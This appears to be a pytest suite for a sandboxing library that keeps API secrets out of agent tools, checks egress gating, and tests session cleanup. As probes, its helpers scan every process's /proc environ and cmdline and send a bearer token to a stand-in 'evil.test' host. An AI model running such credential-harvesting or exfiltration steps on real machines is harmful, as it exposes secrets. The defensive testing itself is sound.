"""From a policy file to what a site sees: guarded functions and tools behind real walls, gates and secrets."""

import asyncio
import json
import os
import shutil
import threading
import time
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest
from pydantic import BaseModel
from tests.core.egress.sites import SECRET, needed, running

from blastwall import BackendError, Guard, RefusedError
from blastwall.audit import verify
from blastwall.errors import AuditError
from blastwall.frozen import thaw
from blastwall.sandbox.copies import of_user

VARIABLE = "SESSION_TEST_SECRET"


@pytest.fixture(autouse=True)
def _bubblewrap(monkeypatch, tmp_path):
    if not os.environ.get("CI") and shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv(VARIABLE, SECRET)


@pytest.fixture
def site():
    with running() as found:
        yield found


@pytest.fixture
def workspace(tmp_path):
    folder = tmp_path / "workspace"
    folder.mkdir()
    if os.geteuid() == 0:
        os.chown(folder, 65534, 65534)
    return folder


@pytest.fixture
def guard(tmp_path, workspace, site):
    """Makes a guard over one profile, with a network and a credential unless it says otherwise."""

    def make(source=None, **box):
        needed({"container": "runsc", "vm": "qemu-system-x86_64"}.get(box.get("strength"), "bwrap"))
        network = [{"host": "api.test", "ports": [site.port], "addresses": ["127.0.0.1"]}]
        given = {"workspace": "workspace", "timeout_s": 60, "memory_mb": 256, "scratch_mb": 16}
        given |= {"network": network, "credentials": ["api"]}
        kept = {"hosts": ["api.test"], "variable": "API_TOKEN", **(source or {"env": VARIABLE})}
        policy = {
            "version": 1,
            "defaults": {"state": {"directory": "log"}},
            "connectors": {
                "desk": {"rules": [{"id": "all", "effect": "allow", "tools": ["*"], "sandbox": "box"}]}
            },
            "credentials": {"api": kept},
            "sandboxes": {"box": given | box},
        }
        file = tmp_path / "blastwall.yaml"
        file.write_text(json.dumps(policy))
        return Guard.from_file(file)

    return make


def records(tmp_path):
    return [json.loads(line) for line in (tmp_path / "log" / "audit.jsonl").read_text().splitlines()]


def asked(url: str) -> dict[str, str]:
    """Ask a site with the token that the environment holds; tell everything that there is to see."""
    import glob
    import os
    import urllib.error
    import urllib.request

    token = os.environ["API_TOKEN"]
    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"})
    try:
        answer = urllib.request.urlopen(request, timeout=20).read().decode()
    except urllib.error.URLError as error:
        answer = f"REFUSED {error}"
    seen = b""
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                seen += file.read()
        except OSError:
            pass
    return {"token": token, "answer": answer, "seen": seen.decode(errors="replace")}


def of_processes():
    """Give the arguments and environments of everything that runs on this machine, but this process."""
    found = b""
    for entry in Path("/proc").glob("[0-9]*"):
        if entry.name != str(os.getpid()):
            for name in ("cmdline", "environ"):
                try:
                    found += (entry / name).read_bytes()
                except OSError:
                    continue
    return found


BOXES = [
    pytest.param({}, id="os"),
    pytest.param({"warm": 1}, id="os-warm"),
    pytest.param({"strength": "container"}, id="container"),
    pytest.param({"strength": "container", "lifetime": "session"}, id="container-session"),
    pytest.param({"strength": "vm", "lifetime": "session"}, id="vm-session"),
]


class TestASecretFromEndToEnd:
    @pytest.mark.parametrize("box", BOXES)
    def test_it_is_outside_only(self, guard, site, tmp_path, box):
        made = guard(**box)
        tool = made.tool(asked, connector="desk")
        # The tests' own children have it in their environment: what the gate starts must not.
        everywhere = []
        site.answer = lambda handler, _: (everywhere.append(of_processes()), _echo(handler))
        with made.session():
            told = tool(f"http://api.test:{site.port}/a")
            with pytest.MonkeyPatch.context() as patch:
                patch.delenv(VARIABLE)
                again = tool(f"http://api.test:{site.port}/b")
            refused = tool(f"http://evil.test:{site.port}/c")
        assert told["token"].startswith("blastwall-placeholder-api-")
        assert again["token"] == told["token"], "one session, one gate"
        assert refused["answer"].startswith("REFUSED")
        assert [request.header("authorization") for request in site.asked] == [[f"Bearer {SECRET}"]] * 2
        assert told["token"] in told["answer"], "the site's echo gives the placeholder back"
        for text in (*told.values(), *again.values(), *refused.values()):
            assert SECRET not in text
        log = (tmp_path / "log" / "audit.jsonl").read_text()
        assert SECRET not in log
        assert all(SECRET.encode() not in said for said in everywhere)
        assert verify(tmp_path / "log" / "audit.jsonl").records == len(log.splitlines())
        decided = [record["details"] for record in records(tmp_path) if record["event"] == "egress"]
        assert [(d["allowed"], d["host"]) for d in decided if d["method"] != "CLOSE"] == [
            (True, "api.test"),
            (True, "api.test"),
            (False, "evil.test"),
        ]

    def test_from_a_file(self, guard, site, tmp_path):
        (tmp_path / "token").write_text(SECRET)
        (tmp_path / "token").chmod(0o600)
        made = guard({"file": "token"})
        with made.session():
            told = made.tool(asked, connector="desk")(f"http://api.test:{site.port}/a")
        assert site.asked[0].header("authorization") == [f"Bearer {SECRET}"]
        assert SECRET not in str(told)

    def test_a_secret_that_is_not_there(self, guard, site, monkeypatch):
        monkeypatch.delenv(VARIABLE)
        made = guard()
        with pytest.raises(RefusedError, match=VARIABLE), made.session():
            made.tool(asked, connector="desk")(f"http://api.test:{site.port}/a")
        assert site.connections == 0

    def test_a_langchain_tool(self, guard, site):
        tools = pytest.importorskip("langchain_core.tools")
        from blastwall_langchain import wrap_tool

        made = guard()
        wrapped = wrap_tool(tools.StructuredTool.from_function(asked), made, connector="desk")
        with made.session():
            told = wrapped.invoke({"url": f"http://api.test:{site.port}/a"})
            also = asyncio.run(wrapped.ainvoke({"url": f"http://api.test:{site.port}/b"}))
        assert [request.header("authorization") for request in site.asked] == [[f"Bearer {SECRET}"]] * 2
        assert told["token"] == also["token"]
        assert SECRET not in str(told) + str(also)

    def test_a_log_that_can_not_be_written_closes_the_network(self, guard, site, monkeypatch):
        """Only what is decided at the gate is not written: the call itself is."""
        made = guard()
        write = made.hands.audit.write

        def broken(session, event, call, details, policy):
            if event == "egress":
                raise AuditError("the disk is full")
            write(session, event, call, details, policy)

        monkeypatch.setattr(made.hands.audit, "write", broken)
        with made.session():
            told = made.tool(asked, connector="desk")(f"http://api.test:{site.port}/a")
        assert told["answer"].startswith("REFUSED")
        assert site.connections == 0


def _echo(handler):
    body = json.dumps(dict(handler.headers.items())).encode()
    handler.send_response(200)
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


class TestSessions:
    def test_the_end_of_a_session_is_the_end_of_its_sandboxes(self, guard):
        made = guard(strength="container", lifetime="session", network=[], credentials=[])

        def left() -> str:
            import os

            before = os.path.exists("/tmp/left")
            open("/tmp/left", "w").close()
            return str(before)

        tool = made.tool(left, connector="desk")
        with made.session() as session:
            assert (tool(), tool()) == ("False", "True")
            boxes = session.boxes
        with pytest.raises(BackendError, match="the session is over"):
            boxes.run(["true"], made.policy.profiles["box"])
        with made.session():
            assert tool() == "False"
        assert tool() == "False", "the guard's own session is another one"
        assert tool() == "True"
        made.current.close()
        assert tool() == "False", "and goes on after it was closed, with nothing of before"
        made.current.close()

    def test_an_error_in_the_block(self, guard):
        made = guard(network=[], credentials=[])

        def fail():
            with made.session() as session:
                opened.append(session.boxes)
                raise ZeroDivisionError

        opened = []
        with pytest.raises(ZeroDivisionError):
            fail()
        with pytest.raises(BackendError, match="the session is over"):
            opened[0].run(["true"], made.policy.profiles["box"])

    def test_sessions_inside_each_other_and_side_by_side(self, guard, site):
        made = guard()
        tool = made.tool(asked, connector="desk")
        url = f"http://api.test:{site.port}/"

        async def one():
            with made.session() as session:
                with made.session():
                    inner = await asyncio.to_thread(tool, url)
                outer = await asyncio.to_thread(tool, url)
                await asyncio.to_thread(session.close)
            return inner["token"], outer["token"]

        async def both():
            return await asyncio.gather(one(), one())

        tokens = [token for pair in asyncio.run(both()) for token in pair]
        assert len({*tokens}) == 4
        assert all(request.header("authorization") == [f"Bearer {SECRET}"] for request in site.asked)

    def test_a_copy_for_review(self, guard, workspace):
        made = guard(copy=True, network=[], credentials=[])

        def write(text: str) -> str:
            with open("file.txt", "a+") as file:
                file.write(text)
                file.seek(0)
                return file.read()

        tool = made.tool(write, connector="desk")
        with made.session() as session:
            assert (tool("a"), tool("b")) == ("a", "ab")
            (copy,) = session.boxes.copies
        assert list(workspace.iterdir()) == []
        assert of_user().ids() == [copy.id]

    @pytest.mark.parametrize("box", [BOXES[0], BOXES[1], BOXES[3]])
    def test_a_cancelled_call_leaves_nothing_running(self, guard, workspace, box):
        made = guard(network=[], credentials=[], **box)

        async def sleeping() -> None:
            import asyncio
            import os

            os.mkdir("begun")
            await asyncio.sleep(1.5)
            os.mkdir("ended")

        tool = made.tool(sleeping, connector="desk")

        async def main():
            task = asyncio.ensure_future(tool())
            while not (workspace / "begun").exists():  # noqa: ASYNC110  # another process makes it
                await asyncio.sleep(0.01)
            task.cancel()
            with pytest.raises(asyncio.CancelledError):
                await task
            await asyncio.sleep(1.7)

        with made.session():
            asyncio.run(main())
        assert not (workspace / "ended").exists()

    def test_closed_by_another_thread_while_a_call_runs(self, guard, workspace):
        made = guard(network=[], credentials=[])

        def sleeping() -> str:
            import time

            with open("begun", "w"):
                pass
            time.sleep(30)
            return "it was not stopped"

        tool = made.tool(sleeping, connector="desk")
        with made.session() as session:

            def close():
                while not (workspace / "begun").exists():
                    time.sleep(0.01)
                session.close()

            thread = threading.Thread(target=close)
            thread.start()
            with pytest.raises(RefusedError, match="the session is over"):
                tool()
            thread.join()


# --- Functions, wherever they run ------------------------------------------------------------------------


@dataclass
class Point:
    x: int
    on: date


class Item(BaseModel):
    name: str
    count: int = 1


@dataclass
class Shape:
    points: list[Point]


def make_tools(guard):
    """Give functions of every kind that a policy may send into a sandbox."""
    factor: int = 3

    def typed(item: Item, on: date, /, times: int = 2) -> dict[str, object]:
        return {"name": item.name * times, "year": on.year, "type": type(item).__name__}

    async def awaited(seconds: float) -> str:
        import asyncio

        await asyncio.sleep(seconds)
        return "slept"

    def closure(n: int) -> int:
        return n * factor

    def shaped(x: int) -> Shape:
        return Shape([Point(x, date(2026, 1, 2))])

    def modelled(name: str) -> Item:
        return Item(name=name)

    def failing(text: str) -> str:
        raise LookupError(text)

    def printing(text: str) -> str:
        print("noise")  # noqa: T201
        return text

    return {f.__name__: guard.tool(f, connector="desk") for f in (
        typed, awaited, closure, shaped, modelled, failing, printing
    )}  # fmt: skip


@pytest.mark.parametrize("box", BOXES)
def test_functions(guard, box):
    made = guard(network=[], credentials=[], **box)
    tools = make_tools(made)
    with made.session():
        assert tools["typed"](Item(name="a"), date(2026, 1, 2)) == {
            "name": "aa",
            "year": 2026,
            "type": "Item",
        }
        assert asyncio.run(tools["awaited"](0.01)) == "slept"
        assert tools["closure"](4) == 12
        assert thaw(tools["shaped"](1)) == {"points": [{"x": 1, "on": "2026-01-02"}]}
        assert tools["modelled"]("b") == {"name": "b", "count": 1}
        with pytest.raises(Exception, match="LookupError: 'no luck'|LookupError: no luck"):
            tools["failing"]("no luck")
        assert tools["printing"]("quiet") == "quiet"
